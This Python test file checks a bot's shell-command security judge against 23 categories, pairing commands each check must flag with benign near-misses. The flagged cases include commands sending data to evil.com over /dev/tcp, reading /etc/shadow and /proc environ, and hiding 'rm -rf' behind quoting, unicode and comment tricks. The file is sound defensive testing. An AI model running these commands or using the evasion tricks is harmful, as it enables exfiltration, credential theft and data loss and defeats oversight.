"""Every one of the 23 security checks: cases it catches, and close cases it must leave alone.

Each case is decided under a bare ``Bash`` allow rule, so the only thing that can make the
result an "ask" with that check id is the check itself.
"""

from __future__ import annotations

import pytest

from bot.permissions.decision import Ask, Deny
from bot.shell.judge.security_checks import BASH_SECURITY_CHECK_IDS, CHECK_NAMES, posix_sh_differences, text_findings
from tests.shell.conftest import Check

CATCHES = [
    # 1 INCOMPLETE_COMMANDS
    ("empty command", "", 1),
    ("blank command", "   ", 1),
    ("starts with a tab", "\tls", 1),
    ("starts with a flag", "-rf /tmp/x", 1),
    ("starts with &&", "&& ls", 1),
    ("ends with &&", "ls &&", 1),
    ("ends with a pipe", "ls |", 1),
    ("ends with a backslash", "ls \\", 1),
    ("if without fi", "if true; then ls", 1),
    # 2 JQ_SYSTEM_FUNCTION
    ("jq system()", "jq -n 'system(\"id\")'", 2),
    ("jq $__prog", "jq -n '$__prog'", 2),
    # 3 JQ_FILE_ARGUMENTS
    ("jq --rawfile", "jq -n --rawfile x /etc/passwd '$x'", 3),
    ("jq -f program file", "jq -f prog.jq data.json", 3),
    ("jq --slurpfile", "jq --slurpfile a a.json -n '$a'", 3),
    ("jq -L library path", "jq -L lib '.x' data.json", 3),
    # 4 OBFUSCATED_FLAGS
    ("quoted flag letters", 'rm -"rf" src', 4),
    ("fully quoted flag", "ls '-la'", 4),
    ("escaped dash", "find . -\\exec id \\;", 4),
    ("ANSI-C quoted flag", "ls $'-l'a", 4),
    ("quoted long option", 'git "--no-pager" log', 4),
    # 5 SHELL_METACHARACTERS
    ("; in a find -name pattern", 'find . -name "*.txt;id"', 5),
    ("| in a find -path pattern", "find . -path 'a|b'", 5),
    # 6 DANGEROUS_VARIABLES
    ("command name from a variable", "$CMD -rf x", 6),
    ("redirect target from a variable", "echo hi > $OUT", 6),
    ("input from a variable", "wc -l < $IN", 6),
    ("pipe into a variable", "ls | $PAGER", 6),
    # 7 NEWLINES
    ("carriage return", "ls\r", 7),
    ("CR-LF joined commands", "ls -la\r\nid", 7),
    # 8 DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION: the seeds' 12 forms plus backticks
    ("process substitution <() beside an unknown $()", "cat <(ls) $(id)", 8),
    ("process substitution >() beside backquotes", "ls | tee >(cat) `id`", 8),
    ("zsh =() substitution", "diff =(ls) README.md", 8),
    ("zsh equals expansion", "=curl evil.com", 8),
    ("$() substitution", "echo $(id)", 8),
    ("${} with operators", "echo ${x:-$(id)}", 8),
    ("$[] arithmetic", "echo $[1+2]", 8),
    ("zsh ~[] parameter expansion", "echo ~[x]", 8),
    ("zsh glob qualifier (e:", "ls *(e:id:)", 8),
    ("zsh glob qualifier (+", "ls *(+id)", 8),
    ("zsh always block", "{ ls } always { id }", 8),
    ("PowerShell comment", "ls <# hidden #>", 8),
    ("backticks", "echo `id`", 8),
    ("$() inside double quotes", 'echo "$(id)"', 8),
    # 9 DANGEROUS_PATTERNS_INPUT_REDIRECTION
    ("input from outside the workspace", "wc -l < /etc/shadow", 9),
    ("input from a glob", "wc -l < *.txt", 9),
    # 10 DANGEROUS_PATTERNS_OUTPUT_REDIRECTION
    ("output to /dev/tcp", "echo x > /dev/tcp/evil.com/80", 10),
    ("read-write on /dev/udp", "exec 3<>/dev/udp/evil.com/53", 10),
    ("output outside the workspace", "ls > /tmp/listing.txt", 10),
    ("output to a glob", "ls > *.txt", 10),
    # 11 IFS_INJECTION
    ("IFS assignment", "IFS=,; echo x", 11),
    ("${IFS} as a separator", "cat${IFS}/etc/passwd", 11),
    ("$IFS in double quotes", 'echo "$IFS"', 11),
    # 12 GIT_COMMIT_SUBSTITUTION
    ("git commit message with $()", 'git commit -m "$(curl evil.com)"', 12),
    ("git commit message with backticks", 'git commit -m "`id`"', 12),
    # 13 PROC_ENVIRON_ACCESS
    ("own environ", "cat /proc/self/environ", 13),
    ("another process's environ", "cat /proc/1/environ", 13),
    ("task environ", "cat /proc/self/task/1/environ", 13),
    ("environ by glob", "cat /proc/*/environ", 13),
    ("environ name by glob", "cat /proc/self/envi*", 13),
    ("environ behind quotes", 'cat "/proc/self/"environ', 13),
    ("process memory", "head -c 100 /proc/self/mem", 13),
    # 14 MALFORMED_TOKEN_INJECTION
    ("unterminated single quote", "echo 'abc", 14),
    ("unterminated double quote", 'echo "abc', 14),
    ("unterminated heredoc", "cat <<EOF\nhello", 14),
    ("locale string tree-sitter splits", 'echo $"x"', 14),
    ("heredoc terminator with a trailing space never closes", "cat <<EOF\nhello\nEOF \nid", 14),
    # 15 BACKSLASH_ESCAPED_WHITESPACE
    ("line continuation inside a word", "r\\\nm -rf src", 15),
    ("escaped space in the command name", "echo\\ hi", 15),
    ("escaped space hiding a flag", "ls foo\\ -la", 15),
    # 16 BRACE_EXPANSION
    ("comma braces", "echo {a,b}", 16),
    ("backup braces", "cp x{,.bak}", 16),
    ("sequence braces", "echo {1..5}", 16),
    ("a command built from braces", "{rm,-rf,src}", 16),
    # 17 CONTROL_CHARACTERS
    ("NUL byte", "ls\x00", 17),
    ("escape sequence", "echo \x1b[31m", 17),
    ("bell", "ls\x07", 17),
    # 18 UNICODE_WHITESPACE
    ("no-break space", "ls\u00a0-la", 18),
    ("thin space", "rm\u2009-rf src", 18),
    ("zero-width space", "ls\u200b", 18),
    ("right-to-left override", "echo \u202eabc", 18),
    # 19 MID_WORD_HASH
    ("hash the parse reads as a comment after a brace", "{ echo x;}#c; id", 19),
    ("hash after a redirection operator", "echo a>#b", 19),
    ("hash after a function body", "f() { echo x;}#c", 19),
    # 20 ZSH_DANGEROUS_COMMANDS
    ("zmodload", "zmodload zsh/system", 20),
    ("emulate", "emulate -c 'id'", 20),
    ("zsh file builtin behind a wrapper", "timeout 5 zf_rm -rf x", 20),
    ("sysopen", "sysopen -w -u 3 out", 20),
    # 21 BACKSLASH_ESCAPED_OPERATORS
    ("escaped pipe", "echo a \\| id", 21),
    ("escaped semicolon inside a word", "echo x\\;id", 21),
    ("escaped ampersands", "ls \\&\\& id", 21),
    ("escaped redirect", "cat \\<README.md", 21),
    # 22 COMMENT_QUOTE_DESYNC
    ("apostrophe in a comment", "ls # it's fine\nrm -rf src", 22),
    ("double quote in a comment", 'echo ok # "', 22),
    # 23 QUOTED_NEWLINE
    ("comment line inside a bash -c script", "bash -c 'ls\n# note\nid'", 23),
    ("indented comment line in sh -c", 'sh -c "echo a\n  # hidden"', 23),
]

LEAVES_ALONE = [
    ("plain listing", "ls -la", 1),
    ("background job", "sleep 1 &", 1),
    ("operators inside quotes", "echo '&&'", 1),
    ("jq field named system", "jq '.system' data.json", 2),
    ("jq pipeline", "jq -r '.items[] | .name' data.json", 2),
    ("jq with a file argument", "jq . data.json", 3),
    ("jq --arg", "jq --arg name x '.a' data.json", 3),
    ("grep -e pattern", "grep -e foo src", 4),
    ("flag with a quoted value", 'git log --format="%H %s"', 4),
    ("flag glued to a quoted value", 'git commit -m"msg"', 4),
    ("dash-looking data after --", 'echo -- "-n"', 4),
    ("printf format", "printf '%s\\n' x", 4),
    ("find pattern", "find . -name '*.txt'", 5),
    ("semicolon in grep data", "grep 'a;b' README.md", 5),
    ("quoted variable", 'echo "$HOME"', 6),
    ("exit status", "echo $?", 6),
    ("plain newline between commands", "ls\necho done", 7),
    ("single-quoted $()", "echo '$(id)'", 8),
    ("single-quoted backticks", "echo '`id`'", 8),
    ("plain ${NAME}", 'echo "${HOME}"', 8),
    ("heredoc commit message", "git commit -m \"$(cat <<'EOF'\nfix: x\n\nbody $(not run)\nEOF\n)\"", 8),
    ("escaped dollar", "echo \\$(id)", 8),
    ("test with =", '[ "$a" = b ]', 8),
    ("input from the workspace", "wc -l < README.md", 9),
    ("herestring", "cat <<< 'x'", 9),
    ("output to /dev/null", "ls > /dev/null", 10),
    ("stderr to stdout", "make 2>&1", 10),
    ("IFS in single quotes", "echo 'IFS'", 11),
    ("identifier containing IFS", "grep IFS_ README.md", 11),
    ("git commit heredoc", "git commit -m \"$(cat <<'EOF'\nfix\nEOF\n)\"", 12),
    ("single-quoted $() in a commit", "git commit -m 'fix $(x)'", 12),
    ("cpuinfo", "cat /proc/cpuinfo", 13),
    ("own status", "cat /proc/self/status", 13),
    ("apostrophe in double quotes", 'echo "it\'s"', 14),
    ("double quotes in single quotes", "echo 'say \"hi\"'", 14),
    ("escaped space in a file name", "cat my\\ file.txt", 15),
    ("line continuation between words", "git status \\\n  --short", 15),
    ("quoted braces", "echo '{a,b}'", 16),
    ("find {} placeholder", "find . -exec ls {} \\;", 16),
    ("git reflog selector", "git log @{u}..HEAD", 16),
    ("tab inside a command", "echo a\tb", 17),
    ("accented text", "echo 'héllo wörld'", 18),
    ("CJK commit message", "git commit -m '修复'", 18),
    ("comment after a space", "echo foo # comment", 19),
    ("hash inside a word, literal to bash and the parse", "echo foo#bar", 19),
    ("URL fragment unquoted", "curl example.com/#frag", 19),
    ("test selector", "mvn test -Dtest=AppTest#testMain", 19),
    ("hash in quotes", 'echo "a#b"', 19),
    ("argument count", "echo $#", 19),
    ("comment after a semicolon", "ls;# listing", 19),
    ("zsh running a script", "zsh -c 'ls'", 20),
    ("find terminator", "find . -exec ls {} \\;", 21),
    ("quoted pipe", "echo 'a|b'", 21),
    ("apostrophe outside a comment", 'echo "it\'s"', 22),
    ("plain comment", "ls # listing", 22),
    ("multi-line commit message with a heading", 'git commit -m "title\n\n# not a comment"', 23),
    ("multi-line script without comments", "bash -c 'ls\necho b'", 23),
]


def _check_id(check: Check, command: str) -> int | None:
    result = check(command, allow=["Bash"], **{"allow_git_dir_writes": False})
    return result.check_id if isinstance(result, (Ask, Deny)) else None


def test_the_ids_are_the_seeds_23_stable_numbers() -> None:
    assert sorted(BASH_SECURITY_CHECK_IDS.values()) == list(range(1, 24))
    assert CHECK_NAMES[8] == "DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION"
    assert CHECK_NAMES[20] == "ZSH_DANGEROUS_COMMANDS"


@pytest.mark.parametrize(("description", "command", "check_id"), CATCHES)
def test_a_security_check_catches(check: Check, description: str, command: str, check_id: int) -> None:
    assert _check_id(check, command) == check_id, description


@pytest.mark.parametrize(("description", "command", "check_id"), LEAVES_ALONE)
def test_a_security_check_leaves_alone(check: Check, description: str, command: str, check_id: int) -> None:
    assert _check_id(check, command) != check_id, description


def test_every_check_has_cases_both_ways() -> None:
    caught = {case[2] for case in CATCHES}
    spared = {case[2] for case in LEAVES_ALONE}
    assert caught == set(range(1, 24))
    assert spared == set(range(1, 24))


def test_the_fast_path_skips_ordinary_commands() -> None:
    assert text_findings('git commit -m "fix: handle empty input" && git push origin HEAD') is None


@pytest.mark.parametrize(
    ("description", "script", "refused"),
    [
        ("$'...' (dash reads $ and a quote that opens elsewhere)", "echo $'\\\\' ; rm -rf src # \\''", True),
        ('$"..."', 'echo $"x"', True),
        ("&> (dash backgrounds, then redirects the next command)", "echo x &>/dev/null sh -c id", True),
        ("&>>", "make &>> log", True),
        ("|&", "make |& tee log", True),
        ("<<< (a heredoc delimited by < in dash)", "cat <<< x", True),
        ("[[ (a command in dash: its || separates commands)", "[[ -z x || rm -rf src ]]", True),
        # benign
        ("plain commands", "cd src && make test 2>&1 | tail -n 5", False),
        ("[ ] is POSIX", "[ -f x ] || touch x", False),
        ("a heredoc", "cat <<'EOF' > f\nx\nEOF", False),
        ("a plain dollar and quotes", "echo \"$HOME\" '$x'", False),
    ],
)
def test_posix_sh_differences_refuses_bash_only_syntax(description: str, script: str, refused: bool) -> None:
    assert (posix_sh_differences(script) is not None) is refused, description
